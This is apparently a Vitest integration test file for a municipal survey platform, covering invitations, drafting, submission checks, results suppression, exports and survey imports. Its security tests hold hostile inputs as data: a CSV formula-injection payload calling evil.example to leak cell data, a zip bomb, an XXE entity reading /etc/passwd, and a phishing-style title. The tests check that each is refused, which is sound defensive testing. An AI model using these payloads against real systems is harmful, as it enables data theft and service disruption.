import { readFileSync } from "node:fs";
import { eq } from "drizzle-orm";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { organisationId, signedInClient } from "../../../test/factories.ts";
import { type Client, startTestServer, type TestServer } from "../../../test/helpers/server.ts";
import { decodeQuotedPrintable, startSmtpServer } from "../../../test/helpers/smtp.ts";
import { verifyAuditChain } from "../../platform/audit.ts";
import { auditEvents, surveyResponses, userRoles } from "../../platform/db/schema.ts";
import { submittedColumns } from "./answer-items.ts";
import { segmentsOf } from "./audience.ts";
import { questionsOf } from "./definition.ts";

let smtp: Awaited<ReturnType<typeof startSmtpServer>>;
let server: TestServer;
let province: Client;
let hasselt: { editor: Client; colleague: Client; admin: Client; editorEmail: string };
let genk: Client;
let emmen: Client;
const ids: Record<string, string> = {};

const smartCity = {
  title: { nl: "Smart City 2026", en: "Smart City 2026" },
  pages: [
    {
      name: "intentie",
      elements: [
        {
          type: "radiogroup",
          name: "wanneer",
          title: { nl: "Wanneer stapt u in?", en: "When do you step in?" },
          isRequired: true,
          choices: [
            { value: "nu", text: { nl: "Dit jaar", en: "This year" } },
            { value: "later", text: { nl: "Binnen drie jaar", en: "Within three years" } },
            { value: "nooit", text: { nl: "Niet", en: "Not" } },
          ],
        },
        {
          type: "rating",
          name: "belang",
          title: { nl: "Hoe belangrijk is smart city voor u?", en: "How important is smart city to you?" },
          isRequired: true,
          rateMin: 1,
          rateMax: 5,
        },
        {
          type: "text",
          inputType: "number",
          name: "budget",
          title: { nl: "Budget per jaar (euro)", en: "Budget per year (euro)" },
          visibleIf: "{wanneer} <> 'nooit'",
          validators: [{ type: "numeric", minValue: 0, maxValue: 10000000 }],
        },
        { type: "comment", name: "opmerking", title: { nl: "Opmerking", en: "Remark" } },
      ],
    },
  ],
};

beforeAll(async () => {
  smtp = await startSmtpServer();
  server = await startTestServer({ SMTP_URL: smtp.url });
  ids.limburg = await organisationId(server.database, "be-province-70000");
  ids.hasselt = await organisationId(server.database, "be-municipality-71072");
  ({ client: province } = await signedInClient(server.url, server.database, {
    organisationKey: "be-province-70000",
    role: "editor",
  }));
  const editor = await signedInClient(server.url, server.database, {
    organisationKey: "be-municipality-71072",
    role: "editor",
  });
  const colleague = await signedInClient(server.url, server.database, {
    organisationKey: "be-municipality-71072",
    role: "editor",
  });
  const admin = await signedInClient(server.url, server.database, {
    organisationKey: "be-municipality-71072",
    role: "admin",
  });
  hasselt = { editor: editor.client, colleague: colleague.client, admin: admin.client, editorEmail: editor.user.email };
  // The admin acts for Genk too: invited twice, mailed once, with a link for each.
  ids.genk = await organisationId(server.database, "be-municipality-71016");
  await server.database.db.insert(userRoles).values({ userId: admin.user.id, organisationId: ids.genk, role: "admin" });
  ids.hasseltAdminEmail = admin.user.email;
  ({ client: genk } = await signedInClient(server.url, server.database, {
    organisationKey: "be-municipality-71016",
    role: "admin",
  }));
  ({ client: emmen } = await signedInClient(server.url, server.database, {
    organisationKey: "nl-municipality-GM0114",
    role: "admin",
  }));
});
afterAll(async () => {
  await server.close();
  await smtp.close();
});

describe("a survey of organisations", () => {
  let survey: string;

  it("refuses a definition that would not run, naming what is wrong", async () => {
    const broken = {
      elements: [
        { type: "radiogroup", name: "a", choices: [] },
        { type: "text", name: "b", visibleIf: "{onbekend} = 1" },
        { type: "text", name: "b" },
      ],
    };
    const { status, data } = await province.post("/api/surveys", { title: "Kapot", definition: broken });
    expect(status).toBe(400);
    expect(data.errors.map((e: { field: string; message: string }) => `${e.field}: ${e.message}`)).toEqual([
      "definition.a: Een keuzevraag zonder keuzes kan niet beantwoord worden.",
      'definition.b: De naam "b" wordt door 2 vragen gebruikt.',
      'definition.b: visibleIf verwijst naar "onbekend", dat geen vraag van deze enquête is.',
    ]);
  });

  it("is prepared by the province for its municipalities and opened: each is invited by mail", async () => {
    const created = await province.post("/api/surveys", {
      title: "Smart City 2026",
      definition: smartCity,
      audience: { kinds: ["municipality"], provinceIds: [ids.limburg] },
      deadline: "2026-12-31",
      series: "smart-city",
      wave: "2026",
    });
    expect(created.status).toBe(201);
    expect(created.data).toMatchObject({ status: "draft", locales: ["en", "nl"], questions: 4 });
    survey = created.data.id;
    expect((await hasselt.editor.get(`/api/surveys/${survey}`)).status).toBe(404);
    const opened = await province.request("POST", `/api/surveys/${survey}/open`, { headers: { "if-match": '"v1"' } });
    expect(opened.status).toBe(200);
    const [{ n }] = (await server.database.raw(
      "select count(*)::int as n from organisations where kind = 'municipality' and status = 'active' and province_id = $1",
      [ids.limburg],
    )) as [{ n: number }];
    expect(n).toBeGreaterThan(30);
    expect(opened.data.invited).toBe(n);
    const mails = smtp.received
      .filter((m) => m.to.includes(hasselt.editorEmail))
      .map((m) => decodeQuotedPrintable(m.raw));
    expect(mails).toHaveLength(1);
    expect(mails[0]).toContain(`/enquetes/${survey}/antwoord?voor=${ids.hasselt}`);
    // Who asks is named from the register.
    expect(mails[0]).toContain('Provincie Limburg nodigt uw organisatie uit voor de enquête "Smart City 2026"');
    const both = smtp.received
      .filter((m) => m.to.includes(ids.hasseltAdminEmail as string))
      .map((m) => decodeQuotedPrintable(m.raw));
    expect(both).toHaveLength(1);
    expect(both[0]).toContain(`Hasselt: http`);
    expect(both[0]).toContain(`Genk: http`);
    expect(both[0]).toContain(`/enquetes/${survey}/antwoord?voor=${ids.genk}`);
    expect((await emmen.get(`/api/surveys/${survey}`)).status).toBe(404);
    const frozen = await province.request("PATCH", `/api/surveys/${survey}`, {
      json: { definition: smartCity },
      headers: { "if-match": '"v2"' },
    });
    expect(frozen.status).toBe(409);
  });

  it("carries no web address in its title, which goes to other organisations", async () => {
    const phishing = await province.post("/api/surveys", {
      title: "Dringend: bevestig uw gegevens op https://samen-login.example",
      definition: smartCity,
    });
    expect(phishing.status).toBe(400);
    expect(phishing.data.errors[0]).toEqual({ field: "body.title", message: "mag geen webadres bevatten" });
  });

  it("is answered once per organisation: two officials draft, a second stale save is told and loses nothing", async () => {
    const first = await hasselt.editor.request("PUT", `/api/surveys/${survey}/response`, {
      json: { data: { wanneer: "later" } },
      headers: { "if-match": '"v0"' },
    });
    expect(first.status).toBe(200);
    const second = await hasselt.colleague.request("PUT", `/api/surveys/${survey}/response`, {
      json: { data: { wanneer: "nu", belang: 5 } },
      headers: { "if-match": '"v0"' },
    });
    expect(second.status).toBe(412);
    const read = await hasselt.colleague.get(`/api/surveys/${survey}/response`);
    expect(read.data).toMatchObject({
      data: { wanneer: "later" },
      version: 1,
      abilities: { draft: true, submit: false },
    });
    const unknown = await hasselt.colleague.request("PUT", `/api/surveys/${survey}/response`, {
      json: { data: { wanneer: "later", verzonnen: 1 } },
      headers: { "if-match": '"v1"' },
    });
    expect(unknown.status).toBe(400);
    expect(unknown.data.errors[0].field).toBe("data.verzonnen");
    expect(
      (
        await hasselt.editor.request("POST", `/api/surveys/${survey}/response/submit`, {
          headers: { "if-match": '"v1"' },
        })
      ).status,
    ).toBe(403);
  });

  it("is checked on the server when submitted: 422 with the questions at fault, then accepted once", async () => {
    const incomplete = await hasselt.admin.request("POST", `/api/surveys/${survey}/response/submit`, {
      headers: { "if-match": '"v1"' },
    });
    expect(incomplete.status).toBe(422);
    expect(incomplete.data.errors).toEqual([{ field: "belang", message: "Dit is een vereiste vraag" }]);
    const bad = await hasselt.colleague.request("PUT", `/api/surveys/${survey}/response`, {
      json: { data: { wanneer: "later", belang: 9, budget: -5 } },
      headers: { "if-match": '"v1"' },
    });
    expect(bad.status).toBe(200);
    const refused = await hasselt.admin.request("POST", `/api/surveys/${survey}/response/submit`, {
      headers: { "if-match": '"v2"' },
    });
    expect(refused.status).toBe(422);
    expect(refused.data.errors.map((e: { field: string }) => e.field).sort()).toEqual(["belang", "budget"]);
    expect((await hasselt.admin.get(`/api/surveys/${survey}/response`)).data.status).toBe("draft");
    await hasselt.colleague.request("PUT", `/api/surveys/${survey}/response`, {
      json: { data: { wanneer: "later", belang: 4, budget: 250000, opmerking: "Samen met Genk" } },
      headers: { "if-match": '"v2"' },
    });
    const submitted = await hasselt.admin.request("POST", `/api/surveys/${survey}/response/submit`, {
      headers: { "if-match": '"v3"' },
    });
    expect(submitted.data).toEqual({ version: 4, repeated: false });
    const retried = await hasselt.admin.request("POST", `/api/surveys/${survey}/response/submit`, {
      headers: { "if-match": '"v3"' },
    });
    expect(retried.data).toEqual({ version: 4, repeated: true });
    const rows = await server.database.db.select().from(surveyResponses);
    expect(rows.filter((r) => r.organisationId === ids.hasselt)).toHaveLength(1);
    expect(rows[0]).toMatchObject({ status: "submitted", segments: { kind: "municipality", provinceId: ids.limburg } });
    // The submission's event is in Hasselt's chain, once, and every chain still holds.
    const events = await server.database.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.entityId, rows.find((r) => r.organisationId === ids.hasselt)?.id ?? ""));
    expect(events.filter((e) => (e.after as { status?: string } | null)?.status === "submitted")).toEqual([
      expect.objectContaining({ chainKey: `org:${ids.hasselt}`, after: { status: "submitted", survey } }),
    ]);
    expect((await verifyAuditChain(server.database.db)).brokenAt).toBeNull();
  });

  it("shows results split by size class, leaving out groups smaller than five, and the response rate", async () => {
    // Eleven more municipalities of Limburg answer (their answers written straight to the database).
    const invited = await server.database.raw(
      "select i.organisation_id as id from survey_invitations i where i.survey_id = $1 and i.organisation_id <> $2 order by 1 limit 11",
      [survey, ids.hasselt],
    );
    for (const [i, row] of (invited as { id: string }[]).entries()) {
      const data = { wanneer: i % 3 === 0 ? "nu" : "later", belang: 2 + (i % 3) };
      await server.database.db.insert(surveyResponses).values({
        surveyId: survey,
        organisationId: row.id,
        status: "submitted",
        data,
        ...submittedColumns(
          questionsOf(smartCity),
          data,
          await segmentsOf(server.database.db, row.id),
          [15_000, 50_000],
        ),
        submittedAt: new Date(),
      });
    }
    const all = await province.get(`/api/surveys/${survey}/results`);
    expect(all.data.total).toBe(12);
    const wanneer = all.data.questions.find((q: { name: string }) => q.name === "wanneer");
    expect(wanneer.bySegment[0].rows[0].counts).toEqual({ later: 8, nu: 4 });
    const bySize = await province.get(`/api/surveys/${survey}/results?split=sizeClass`);
    const sizes = bySize.data.segments as { key: string; n: number | null; suppressed: boolean }[];
    expect(sizes.reduce((s, x) => s + (x.n ?? 0), 0)).toBeLessThanOrEqual(12);
    for (const s of sizes) expect(s.suppressed || (s.n ?? 0) >= 5).toBe(true);
    const shown = sizes.filter((s) => !s.suppressed);
    const hidden = sizes.filter((s) => s.suppressed);
    // One hidden group alone could be worked out from the total: then a second is hidden with it.
    expect(hidden.length === 0 || hidden.length >= 2 || shown.length <= 1).toBe(true);
    expect((await province.get(`/api/surveys/${survey}/results?split=collaboration`)).status).toBe(400);
    const [membership] = (await server.database.raw(
      "select collaboration_id as id from memberships where organisation_id = $1 limit 1",
      [ids.hasselt],
    )) as { id: string }[];
    const byCollaboration = await province.get(
      `/api/surveys/${survey}/results?split=collaboration&collaborationId=${membership?.id}`,
    );
    expect(byCollaboration.status).toBe(200);
    expect(byCollaboration.data.segments.map((s: { key: string }) => s.key).sort()).toEqual(
      expect.arrayContaining(["member"]),
    );
    const rates = await province.get(`/api/surveys/${survey}/response-rates?split=kind`);
    expect(rates.data.items[0]).toMatchObject({ key: "municipality", submitted: 12 });
    expect((await hasselt.admin.get(`/api/surveys/${survey}/results`)).status).toBe(403);
  });

  it("exports the answers with labels, as CSV and as a spreadsheet", async () => {
    const csv = await province.get(`/api/surveys/${survey}/answers.csv`);
    expect(csv.status).toBe(200);
    expect(csv.data).toContain("organisatie");
    expect(csv.data).toContain("Hasselt");
    expect(csv.data).toContain("Binnen drie jaar");
    const xlsx = await province.download(`/api/surveys/${survey}/answers.xlsx`);
    const sheet = strFromU8(unzipSync(new Uint8Array(xlsx.bytes))["xl/worksheets/sheet1.xml"] as Uint8Array);
    expect(sheet).toContain("Samen met Genk");
  });
});

describe("an anonymous survey", () => {
  it("exports no organisations", async () => {
    const created = await province.post("/api/surveys", {
      title: "Anoniem",
      definition: smartCity,
      anonymous: true,
      audience: { organisationIds: [ids.hasselt, await organisationId(server.database, "be-municipality-71016")] },
    });
    const id = created.data.id;
    await province.request("POST", `/api/surveys/${id}/open`, { headers: { "if-match": '"v1"' } });
    await genk.request("PUT", `/api/surveys/${id}/response`, {
      json: { data: { wanneer: "nooit", belang: 1 } },
      headers: { "if-match": '"v0"' },
    });
    expect(
      (await genk.request("POST", `/api/surveys/${id}/response/submit`, { headers: { "if-match": '"v1"' } })).status,
    ).toBe(200);
    const csv = await province.get(`/api/surveys/${id}/answers.csv`);
    expect(csv.data).not.toContain("Genk");
    expect(csv.data).not.toContain("organisatie");
    const results = await province.get(`/api/surveys/${id}/results`);
    expect(results.data.segments).toEqual([{ key: "all", label: "all", n: null, suppressed: true }]);
  });
});

describe("an answer written as a formula", () => {
  it("is exported as text a spreadsheet shows, never runs", async () => {
    const created = await province.post("/api/surveys", {
      title: "Contact",
      definition: { elements: [{ type: "text", name: "contact", title: "Contactpersoon" }] },
      audience: { organisationIds: [await organisationId(server.database, "be-municipality-71016")] },
    });
    const id = created.data.id;
    await province.request("POST", `/api/surveys/${id}/open`, { headers: { "if-match": '"v1"' } });
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")';
    await genk.request("PUT", `/api/surveys/${id}/response`, {
      json: { data: { contact: formula } },
      headers: { "if-match": '"v0"' },
    });
    expect(
      (await genk.request("POST", `/api/surveys/${id}/response/submit`, { headers: { "if-match": '"v1"' } })).status,
    ).toBe(200);
    const csv = String((await province.get(`/api/surveys/${id}/answers.csv`)).data);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"")"`);
    expect(csv).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
  });
});

describe("definitions written by others", () => {
  it("imports a SurveyJS definition, reporting what Samen does not analyse", async () => {
    const definition = JSON.parse(readFileSync("test/fixtures/surveys/product-feedback.surveyjs.json", "utf8"));
    const check = await province.post("/api/survey-definitions/check", { definition });
    expect(check.data.findings).toEqual([
      {
        severity: "warning",
        where: "pricelimit",
        message:
          'Vragen van het type "multipletext" worden beantwoord en bewaard, maar de resultaten analyseren ze niet.',
      },
    ]);
    const created = await province.post("/api/surveys", { title: "Product feedback", definition });
    expect(created.status).toBe(201);
    expect(created.data.questions).toBe(8);
  });

  it("converts an XLSForm, naming each row it could not carry over", async () => {
    const file = readFileSync("test/fixtures/surveys/odk-form-logic.xlsx");
    const { status, data } = await province.request("POST", "/api/survey-definitions/from-xlsform", {
      body: file as unknown as string,
      headers: { "content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
    });
    expect(status).toBe(200);
    expect(data.definition.title).toBe("Form logic examples");
    expect(data.findings.map((f: { where: string }) => f.where)).toEqual([
      "blad survey, regel 8 (tip_18)",
      "blad survey, regel 16 (location)",
      "blad survey, regel 17 (start)",
    ]);
    const created = await province.post("/api/surveys", { title: "ODK", definition: data.definition });
    expect(created.status).toBe(201);
    // And out again as an XLSForm, which converts back to the same questions.
    const out = await province.download(`/api/surveys/${created.data.id}/xlsform.xlsx`);
    expect(out.status).toBe(200);
    expect(out.type).toContain("spreadsheetml");
    const back = await province.request("POST", "/api/survey-definitions/from-xlsform", {
      body: out.bytes as unknown as string,
      headers: { "content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
    });
    expect(back.status).toBe(200);
    const names = (d: Record<string, unknown>) => questionsOf(d).map((q) => q.name);
    expect(names(back.data.definition)).toEqual(names(data.definition));
    const notXlsx = await province.request("POST", "/api/survey-definitions/from-xlsform", {
      body: "not a spreadsheet",
      headers: { "content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
    });
    expect(notXlsx.status).toBe(422);
    // A zip bomb (200 kB that unpacks to 64 MB) is refused before it is unpacked.
    const bomb = zipSync(
      { "xl/workbook.xml": strToU8("<workbook/>"), "xl/worksheets/sheet1.xml": new Uint8Array(64 * 1024 * 1024) },
      { level: 9 },
    );
    const refused = await province.request("POST", "/api/survey-definitions/from-xlsform", {
      body: bomb,
      headers: { "content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
    });
    expect(refused.status).toBe(422);
    expect(refused.data.errors[0]).toMatchObject({ field: "file" });
  });

  it("converts a LimeSurvey survey structure, naming each question it could not carry over", async () => {
    const file = readFileSync("test/fixtures/surveys/limesurvey/samen-alle-vraagtypen.lss");
    const { status, data } = await province.request("POST", "/api/survey-definitions/from-limesurvey", {
      body: file as unknown as string,
      headers: { "content-type": "application/xml", "accept-language": "nl" },
    });
    expect(status).toBe(200);
    expect(data.definition.title).toEqual({
      nl: "Samenwerking tussen besturen",
      en: "Cooperation between authorities",
    });
    expect(data.findings).toContainEqual({
      severity: "warning",
      where: "vraag bijlage (vraaggroep Tot slot)",
      message: "Vragen om een bestand op te laden worden niet ondersteund en zijn weggelaten.",
    });
    const created = await province.post("/api/surveys", { title: "LimeSurvey", definition: data.definition });
    expect(created.status).toBe(201);
    expect(created.data.locales).toEqual(["en", "nl"]);
    // A group export, a file that is no XML, an entity that would read a file of the server: refused, in Dutch.
    for (const body of [
      "<document><LimeSurveyDocType>Group</LimeSurveyDocType></document>",
      "dit is geen xml",
      '<?xml version="1.0"?><!DOCTYPE document [<!ENTITY x SYSTEM "file:///etc/passwd">]><document>&x;</document>',
    ]) {
      const refused = await province.request("POST", "/api/survey-definitions/from-limesurvey", {
        body,
        headers: { "content-type": "application/xml", "accept-language": "nl" },
      });
      expect(refused.status, body).toBe(422);
      expect(refused.data.errors[0]).toMatchObject({ field: "file" });
      expect(refused.data.detail).toMatch(/LimeSurvey/);
      expect(JSON.stringify(refused.data)).not.toContain("root:");
    }
  });
});

describe("opening a survey", () => {
  it("says first whom it invites and who has nobody to receive it, and refuses the starting question alone", async () => {
    const { starterDefinition } = await import("../../platform/survey-starter.ts");
    const created = await province.post("/api/surveys", {
      title: "Nog leeg",
      definition: starterDefinition,
      audience: { kinds: ["municipality"], provinceIds: [ids.limburg] },
    });
    expect(created.status).toBe(201);
    const preview = await province.get(`/api/surveys/${created.data.id}/audience-preview`);
    expect(preview.status).toBe(200);
    expect(preview.data.startingQuestionOnly).toBe(true);
    // Hasselt and Genk have people in Samen; the other Limburg municipalities nobody.
    expect(preview.data.reachable).toBe(2);
    expect(preview.data.unreachable).toHaveLength(preview.data.invited - 2);
    const names = preview.data.unreachable.map((o: { name: string }) => o.name);
    expect(names).not.toContain("Hasselt");
    expect(names).toContain("Diepenbeek");
    expect(names).toEqual([...names].sort((a, b) => a.localeCompare(b, "nl")));
    const refused = await province.request("POST", `/api/surveys/${created.data.id}/open`, {
      headers: { "if-match": `"v${created.data.version}"` },
    });
    expect(refused.status).toBe(400);
    expect(refused.data.errors[0]).toEqual({ field: "definition", message: "bevat alleen de beginvraag" });
    expect((await province.get(`/api/surveys/${created.data.id}`)).data.status).toBe("draft");
    // Not for whom it would invite.
    expect((await hasselt.admin.get(`/api/surveys/${created.data.id}/audience-preview`)).status).toBe(404);
  });
});
